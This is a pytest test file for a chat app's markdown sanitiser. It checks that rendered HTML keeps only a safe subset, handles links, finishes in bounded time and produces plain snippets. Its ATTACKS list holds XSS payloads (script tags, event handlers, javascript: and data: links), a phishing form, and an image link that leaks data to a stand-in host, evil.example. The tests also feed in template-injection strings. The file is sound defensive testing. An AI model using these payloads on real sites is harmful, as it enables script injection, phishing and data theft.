"""Message text to safe HTML: what stays, what never does, and how long the worst takes."""

import re
import time

import pytest

from chatify.lib.markup import render, snippet

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<<script>script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\nscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:x)",
    "[a](file:///etc/passwd)",
    "[a](blob:http://x/1)",
    "[a](chatify://x)",
    "<javascript:alert(1)>",
    '![a](x "onerror=alert(1)")',
    "![](https://evil.example/p.png?d=SECRET)",
    "![a][b]\n\n[b]: https://evil.example/p.png",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "```html onload=alert(1)\ncode\n```",
    "<a id=getElementById name=cookie>x</a>",
    "# heading {#getElementById}",
    "<style>*{display:none}</style>",
    "<form action=https://evil.example><button>Sign in</button></form>",
    "[a]: javascript:alert(1)\n\n[a]",
    'http://a.example/"onmouseover="alert(1)',
    "https://x.example/<script>alert(1)</script>",
]

TAG = re.compile(r"<\s*([a-zA-Z0-9]+)([^>]*)>")
ALLOWED = {
    "p",
    "br",
    "strong",
    "em",
    "s",
    "del",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "a",
    "h1",
    "hr",
}


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("around", ["{}", "Look: {} **bold**", "> {}", "- {}", "`a` {}"])
def test_nothing_that_runs_or_loads_survives(attack, around):
    html = render(around.format(attack))
    for name, attributes in TAG.findall(html):
        assert name in ALLOWED
        for attribute, value in re.findall(r'([a-z-]+)="([^"]*)"', attributes):
            assert attribute in ("href", "rel", "class")
            if attribute == "href":
                assert re.match(r"(https?://|mailto:)", value)
    assert "<img" not in html and "<script" not in html


@pytest.mark.parametrize("link", ["//evil.example", "/\\evil.example", "\\\\evil.example", "https:evil"])
def test_a_relative_address_is_no_link(link):
    assert 'href="' not in render(f"[here]({link}) *now*") and 'href="' not in render(link)


def test_links_carry_rel_and_show_their_host_in_ascii():
    plain, rich = render("see https://аррӏе.com/x now"), render("**see** https://аррӏе.com/x now")
    for html in (plain, rich):
        assert 'rel="noopener noreferrer nofollow ugc"' in html
        assert ">https://xn--80ak6aa92e.com/x</a>" in html


def test_punctuation_after_a_link_is_not_part_of_it():
    html = render("Go to https://a.example/x_(y). Then www.b.example, please!")
    assert 'href="https://a.example/x_(y)"' in html
    assert 'href="https://b' not in html and 'href="https://www.b.example"' in html


def test_plain_text_keeps_its_lines_and_is_escaped():
    assert render("one\ntwo\n\nthree & four") == "<p>one<br>\ntwo</p>\n<p>three &amp; four</p>"


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("**bold** and _soft_", "<p><strong>bold</strong> and <em>soft</em></p>"),
        ("~~gone~~", "<p><s>gone</s></p>"),
        ("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"),
        ("Bring\n- one\n2) two", "<p>Bring</p>\n<ul>\n<li>one</li>\n</ul>\n<ol>\n<li>two</li>\n</ol>"),
        ("Title\n===\nText\n---", "<h1>Title</h1>\n<h2>Text</h2>"),
        ("Run\n\n    make", "<p>Run</p>\n<pre><code>make\n</code></pre>"),
        ("- - -", "<hr>"),
        ("a - b\n1.5 and -3 = x", "<p>a - b<br>\n1.5 and -3 = x</p>"),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>"),
        ("```python\nx = 1\n```", '<pre><code class="language-python">x = 1\n</code></pre>'),
    ],
)
def test_the_subset_is_rendered(source, html):
    assert render(source) == html


def test_template_syntax_is_shown_as_typed():
    for text in ("{{7*7}}", "{% load x %}", "%(x)s", "{0.__class__}", "${7*7}"):
        assert render(text) == f"<p>{text}</p>"


def test_direction_overrides_are_visible_in_code_and_kept_in_prose():
    assert "[RLO]" in render("`if\u202e access`")
    assert "[RLI]" in render("```\na\u2067b\n```")
    assert render("a\u202eb") == "<p>a\u202eb</p>"


@pytest.mark.parametrize(
    "pattern",
    ["[", "*", "_", ">", "`", "~~a", "[a](", "![", "<", "&#", "- ", "1. ", "http://a.b ", "((", "\\"],
)
def test_the_longest_messages_are_rendered_in_bounded_time(pattern):
    source = (pattern * 8000)[:8000]
    start = time.process_time()
    render(source)
    assert time.process_time() - start < 2


@pytest.mark.parametrize(
    "source",
    [
        "|" + "a|" * 1300 + "\n|" + "-|" * 1300 + "\n" + "|\n" * 1300,
        "a|" * 1000 + "\n" + "-|" * 1000 + "\n" + "|\n" * 1900,
        "> " + "a|" * 1000 + "\n> " + "-|" * 1000 + "\n" + "> |\n" * 900,
    ],
)
def test_a_few_bars_do_not_become_a_megabyte_of_cells(source):
    assert len(render(source)) < 10 * len(source)


def test_a_table_as_large_as_people_write_is_one():
    rows = render("|a|b|\n|-|-|\n" + "|x|y|\n" * 500)
    assert rows.count("<tr>") == 501


def test_a_snippet_is_one_plain_line():
    assert snippet("**Hello**\n\n> you") == "Hello you"
    assert snippet("## Plan\n```python\nsnake_case = 5 * 3 # ok\n```") == "Plan snake_case = 5 * 3 # ok"
    assert snippet("~~old~~ _new_, 2 > 1 | 3") == "old new, 2 > 1 | 3"
    assert snippet("a" * 500) == "a" * 119 + "…"
